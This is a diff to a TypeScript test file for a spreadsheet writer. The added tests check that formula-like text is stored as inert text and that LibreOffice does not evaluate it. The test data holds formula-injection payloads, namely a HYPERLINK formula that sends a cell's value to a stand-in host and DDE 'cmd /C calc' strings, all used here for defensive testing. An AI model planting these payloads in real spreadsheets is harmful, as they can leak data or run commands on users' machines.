@@ -7,6 +7,7 @@ import { test } from 'node:test';
 import { pathToFileURL } from 'node:url';
 import { promisify } from 'node:util';
 import ExcelJS from 'exceljs';
+import { strFromU8, unzipSync } from 'fflate';
 import type { Exact } from '../core/exact.ts';
 import { readDocument } from '../ingest/readers/read.ts';
 import type { Cell, Doc, Table } from './doc.ts';
@@ -268,6 +269,101 @@ test('LibreOffice Calc opens the workbook, recalculates the formulas and shows t
     assert.match(projects, /合计,"820,000.00","422,921.00","370,441.00","872,480.00","705,466.40",80.86%/);
     assert.match(csv('sample-部门整体支出绩效自评表'), /部门资金情况,年初预算,"3,916.29",调整后预算,"4,171.75"/);
     assert.match(csv('stale'), /^重算,*\n1.00,2.00,0.50,2.50\n/);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+// ---- Formula injection --------------------------------------------------------------------------------------
+
+/** Text a spreadsheet would take for a formula (OWASP's list), beside a formula the writer means. */
+const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"点此核对")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1', '＝1+1'];
+const INJECTION_DOC: Doc = {
+  meta: { title: '=1+1 标题', layout: 'form' },
+  blocks: [
+    {
+      kind: 'table',
+      table: {
+        id: 'inj',
+        sheet: '注入',
+        caption: '@说明',
+        columns: [{ key: 'k', width: 30 }, { key: 'v', width: 8 }],
+        header: [{ cells: [text('文字'), text('金额')] }],
+        body: [
+          ...HOSTILE.map((s, i) => ({ key: `r${i}`, cells: [text(s), money(BigInt(i + 1), 1n)] })),
+          { cells: [text('合计'), money(36n, 1n, { formula: { op: 'sum', cells: HOSTILE.map((_, i) => ({ col: 'v', row: `r${i}` })) } })] },
+          { cells: [text('普通文字'), text('—')] },
+        ],
+      },
+    },
+  ],
+};
+
+/** The cellXfs of a workbook's styles and the style index of a cell (by address) of its first sheet. */
+function xfOf(bytes: Uint8Array, address: string): string {
+  const files = unzipSync(bytes);
+  const styles = strFromU8(files['xl/styles.xml']!);
+  const xfs = [...(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '').matchAll(/<xf\b[^>]*?(?:\/>|>[\s\S]*?<\/xf>)/g)].map((m) => m[0]);
+  const sheetXml = strFromU8(files['xl/worksheets/sheet1.xml']!);
+  const s = new RegExp(`<c r="${address}"(?: s="(\\d+)")?`).exec(sheetXml);
+  assert.ok(s, `no cell ${address}`);
+  return xfs[Number(s[1] ?? 0)] ?? '';
+}
+
+test('formula-like text is stored as text with the Text format and quotePrefix; real formulas stay live', async () => {
+  const bytes = await renderXlsx(INJECTION_DOC);
+  const wb = await load(bytes);
+  const ws = sheet(wb, '注入');
+  HOSTILE.forEach((s, i) => {
+    const cell = ws.getCell(3 + i, 1);
+    // XML turns a bare CR into LF when the file is read (exceljs writes it unescaped); the leading mark stays.
+    assert.equal(String(cell.value), s.replace(/\r/g, '\n'), `row ${i} keeps its text`);
+    assert.equal(cell.type, ExcelJS.ValueType.String, `row ${i} is a text cell`);
+    assert.equal(cell.numFmt, '@', `row ${i} has the Text format`);
+    assert.match(xfOf(bytes, `A${3 + i}`), /quotePrefix="1"/, `row ${i} has the quote prefix`);
+  });
+  assert.match(xfOf(bytes, 'A1'), /quotePrefix="1"/, 'the caption banner too');
+  // What the writer means as a formula is one, and plain text is left as it was.
+  assert.deepEqual(formulaOf(ws.getCell(3 + HOSTILE.length, 2)), { formula: `SUM(B3:B${2 + HOSTILE.length})`, result: 36 });
+  assert.doesNotMatch(xfOf(bytes, `B${3 + HOSTILE.length}`), /quotePrefix/);
+  assert.doesNotMatch(xfOf(bytes, `A${4 + HOSTILE.length}`), /quotePrefix|numFmtId="49"/);
+  // A workbook without such text is written as exceljs made it (no repacking).
+  const plain = await renderXlsx(SAMPLE_DOC);
+  assert.doesNotMatch(strFromU8(unzipSync(plain)['xl/styles.xml']!), /quotePrefix/);
+});
+
+test('LibreOffice reads the neutralised text as text: not evaluated in CSV, still Text-formatted when saved again', { timeout: 120_000 }, async () => {
+  assert.ok(existsSync(SOFFICE), `LibreOffice is needed for this test: apt-get install libreoffice-calc-nogui (no ${SOFFICE})`);
+  const dir = mkdtempSync(join(tmpdir(), 'jixiao-xlsx-inj-'));
+  try {
+    writeFileSync(join(dir, 'inj.xlsx'), await renderXlsx(INJECTION_DOC));
+    // A profile that recalculates on load, so anything taken for a formula would show its result.
+    mkdirSync(join(dir, 'profile', 'user'), { recursive: true });
+    writeFileSync(
+      join(dir, 'profile', 'user', 'registrymodifications.xcu'),
+      '<?xml version="1.0" encoding="UTF-8"?>\n<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item></oor:items>\n',
+    );
+    const profile = `-env:UserInstallation=${pathToFileURL(join(dir, 'profile')).href}`;
+    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1';
+    await run(SOFFICE, ['--headless', '--norestore', profile, '--convert-to', filter, '--outdir', join(dir, 'csv'), join(dir, 'inj.xlsx')], { timeout: 110_000 });
+    const csvFile = readdirSync(join(dir, 'csv')).find((f) => f.endsWith('.csv'));
+    assert.ok(csvFile, 'a CSV');
+    const csv = readFileSync(join(dir, 'csv', csvFile), 'utf8');
+    assert.ok(csv.includes('"=HYPERLINK(""http://example.invalid/?x=""&A1,""点此核对"")"'), csv);
+    assert.match(csv, /^\+1\+1,/m, 'not evaluated to 2');
+    assert.match(csv, /^-2\+3,/m, 'not evaluated to 1');
+    assert.match(csv, /^＝1\+1,/m);
+    assert.match(csv, /^合计,36\.00$/m, 'the real SUM is recalculated');
+    // Saved again by LibreOffice, the cells keep the Text format: what is typed into them stays text.
+    await run(SOFFICE, ['--headless', '--norestore', profile, '--convert-to', 'xlsx', '--outdir', join(dir, 'again'), join(dir, 'inj.xlsx')], { timeout: 110_000 });
+    const again = new Uint8Array(readFileSync(join(dir, 'again', 'inj.xlsx')));
+    const wb = await load(again);
+    const ws = wb.worksheets[0]!;
+    const v = ws.getCell('A3').value;
+    const textOf = (x: ExcelJS.CellValue): string => (x !== null && typeof x === 'object' && 'richText' in x ? x.richText.map((r) => r.text).join('') : String(x));
+    assert.equal(textOf(v), HOSTILE[0]);
+    assert.equal(ws.getCell('A3').numFmt, '@');
+    assert.equal(ws.getCell('A6').numFmt, '@');
   } finally {
     rmSync(dir, { recursive: true, force: true });
   }
